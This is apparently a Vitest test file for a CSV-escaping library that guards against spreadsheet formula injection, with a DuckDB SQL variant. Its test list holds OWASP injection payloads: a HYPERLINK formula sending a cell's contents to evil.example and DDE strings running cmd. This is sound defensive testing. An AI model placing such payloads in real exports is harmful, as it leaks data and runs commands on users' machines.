import { describe, expect, it } from "vitest";
import { DuckDBInstance } from "@duckdb/node-api";
import { csvCell, csvCellSql, fromCsvCell, isFormulaLike } from "../../../lib/csv/index.ts";

// The OWASP list of payloads a spreadsheet would run, and values that must stay as they are.
const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1, "click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "= email",
  "-",
  "+",
];
const PLAIN = ["email", "in (a, b)", "-3.5", "+2", "-4", "1e-3", "-.5", "'quoted", "a=b", ""];

// Texts that already look neutralised: they get one more quote, so they read back unchanged.
const QUOTED = ["'=x", "''=x", "'+1+cmd", "'@a", "'\t=1", "'-3"];

describe("csvCell (OWASP CSV injection)", () => {
  it("quotes a leading formula character and double-quotes the cell", () => {
    expect(csvCell('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvCell("@x")).toBe(`"'@x"`);
    expect(csvCell("\t=1")).toBe(`"'\t=1"`);
    for (const f of FORMULAS) expect(csvCell(f).startsWith(`"'`), f).toBe(true);
  });

  it("leaves plain numbers, negative ones included, and ordinary text alone", () => {
    expect(csvCell("-3.5")).toBe("-3.5");
    expect(csvCell(-4)).toBe("-4");
    expect(csvCell("+2")).toBe("+2");
    expect(csvCell("email")).toBe("email");
    expect(csvCell("in (a, b)")).toBe(`"in (a, b)"`);
    expect(csvCell(null)).toBe("");
    for (const p of PLAIN) expect(isFormulaLike(p), p).toBe(false);
  });

  it("reads back what it wrote, and leaves other texts as they are", () => {
    for (const v of [...FORMULAS, ...PLAIN, ...QUOTED]) {
      const cell = csvCell(v);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(fromCsvCell(unquoted)).toBe(v);
    }
    expect(fromCsvCell("= email")).toBe("= email");
    expect(fromCsvCell("'plain")).toBe("'plain");
  });

  it("has a SQL form that marks the same cells in DuckDB", async () => {
    const conn = await (await DuckDBInstance.create(":memory:")).connect();
    const values = [...FORMULAS, ...PLAIN, ...QUOTED];
    const list = values.map((v) => `'${v.replaceAll("'", "''")}'`).join(", ");
    const r = await conn.runAndReadAll(`SELECT v, ${csvCellSql("v")} AS w FROM unnest([${list}]) t(v)`);
    const rows = r.getRowObjectsJson() as Array<{ v: string; w: string }>;
    expect(rows.length).toBe(values.length);
    for (const { v, w } of rows)
      expect(w, JSON.stringify(v)).toBe(isFormulaLike(v) || QUOTED.includes(v) ? `'${v}` : v);
    conn.closeSync();
  });
});
